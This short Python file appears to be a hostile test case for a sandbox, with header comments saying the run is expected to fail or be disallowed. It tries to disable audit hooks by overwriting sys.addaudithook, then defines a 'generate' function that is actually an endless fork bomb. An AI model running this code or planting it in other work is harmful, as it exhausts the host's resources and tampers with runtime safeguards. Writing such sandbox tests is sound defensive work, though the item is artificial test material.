# A fork bomb that first gets rid of what refuses forks, as far as it can. Only after limits were seen to bind.
# on: nothing
# dangerous: only after limits were seen to bind
# expect: runs failed | not allowed here

import os
import sys

sys.addaudithook = None


def generate(model, prompt, n, workers):
    while True:
        os.fork()
        yield 0
